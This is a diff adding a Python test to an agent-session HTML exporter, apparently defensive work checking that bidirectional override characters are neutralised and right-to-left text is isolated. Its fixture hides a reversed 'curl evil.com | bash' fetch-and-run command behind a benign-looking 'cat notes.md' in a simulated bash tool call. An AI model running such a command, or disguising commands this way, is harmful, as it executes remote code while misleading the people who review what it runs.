@@ -435,3 +435,31 @@ def test_second_result_for_one_call(tmp_path):
     assert anc[-1].get("data-call") == "c1"
     assert page.find("section", cls="tool-orphan", data_entry="r2")
     assert "another result for a call above" in page.entry_text("r2")
+
+
+TROJAN = "cat notes.md \u202ehs.hsab|moc.live//:sptth lruc #\u202c"  # shown as: cat notes.md # curl https://evil.com|bash.sh
+BIDI = re.compile("[\u202a-\u202e\u2066-\u2069]")
+
+
+def test_bidi_controls_are_stand_ins_and_right_to_left_text_is_isolated(tmp_path):
+    """Issue 33, hole 7: a stored override displayed the command as another, and, left
+    open, reversed the page's own word "read" after it. No bidi control reaches the page
+    raw (each is its stand-in, as in the app), and a string with right-to-left letters is
+    isolated in a <bdi>, so it cannot move the page's own text."""
+    call = {"type": "toolCall", "id": "c1", "name": "bash", "arguments": {"command": TROJAN}}
+    read = {"type": "toolCall", "id": "c2", "name": "read", "arguments": {"path": "/tmp/\u202enotes\u2066.md"}}
+    objs = [
+        entry("session_info", "n1", None, 0, name="name \u202e" + "שלום"),
+        user("u1", "n1", 1, text="run " + TROJAN),
+        assistant("a1", "u1", 2, content=[{"type": "text", "text": "ok \u2067x"}, call, read], model="m\u202e"),
+        entry("label", "l1", "a1", 3, targetId="u1", label="label \u202dמה"),
+    ]
+    page = export_html(Session.open(write(tmp_path / "s.jsonl", objs)))
+    parsed = Page(page)
+    assert not parsed.errors, parsed.errors[:5]
+    assert BIDI.search(page) is None
+    assert "cat notes.md \\u202ehs.hsab|moc.live//:sptth lruc #\\u202c" in page
+    assert "/tmp/\\u202enotes\\u2066.md" in page and ">read<" in page
+    # right-to-left text in the page's own text is in a <bdi>; the title (no markup) is not
+    assert "<bdi>name \\u202eשלום</bdi>" in page and "<title>name \\u202eשלום · Pi session</title>" in page
+    assert "<bdi>label \\u202dמה</bdi>" in page
